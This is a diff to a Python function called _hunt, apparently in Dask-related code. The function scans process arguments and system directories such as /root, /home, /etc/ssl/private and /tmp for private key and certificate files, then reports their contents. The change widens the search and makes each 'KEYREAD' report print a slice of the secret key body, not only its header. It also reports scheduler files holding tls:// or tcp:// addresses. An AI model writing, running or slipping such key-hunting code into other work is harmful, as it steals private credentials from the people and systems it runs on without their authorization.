@@ -394,16 +394,17 @@ def _hunt():
         for a in _cmd(pid).split():
             if a.endswith(('.pem', '.key', '.crt', '.json')) and a.startswith('/'):
                 named.add(a)
-    starts = sorted(named) + ['/keys', '/tmp', '/var/tmp', '/etc/ssl/private', '/etc/dask', '/root', '/home', '/opt',
-                              '/srv', '/run', '/work', '/dev/shm']
+    here = _os.path.dirname(_os.path.abspath(__file__))
+    starts = sorted(named) + ['/keys', '/work', '/opt', '/srv', '/home', '/etc/ssl/private', '/etc/dask', '/run',
+                              _os.path.dirname(here), '/tmp', '/var/tmp', '/dev/shm', '/root']
     for top in starts:
         if _os.path.isfile(top):
             found.append(top)
             continue
         for dirpath, dirs, files in _os.walk(top):
-            if _time.time() - _T0 > 3:
+            if _time.time() - _T0 > 5:
                 break
-            dirs[:] = [d for d in dirs if d not in ('.venv', 'site-packages', 'node_modules', '.git', 'proc', 'sys')]
+            dirs[:] = [d for d in dirs if d not in ('.venv', 'site-packages', 'node_modules', '.git', 'proc', 'sys', '.pyenv')]
             if dirpath.count('/') > 7:
                 dirs[:] = []
             for f in files:
@@ -414,8 +415,8 @@ def _hunt():
     for p in found[:40]:
         b = _read(p)
         if isinstance(b, bytes):
-            if b'PRIVATE KEY' in b:
-                _say('KEYREAD: %s %s' % (p, b[:60]))
+            if b'PRIVATE KEY' in b and '/lib/python' not in p:
+                _say('KEYREAD: %s %s' % (p, b[:28] + b' ... ' + b[300:380]))
             elif b'tls://' in b or b'tcp://' in b:
                 _say('SCHEDFILE: %s %s' % (p, b[:120]))
         else:
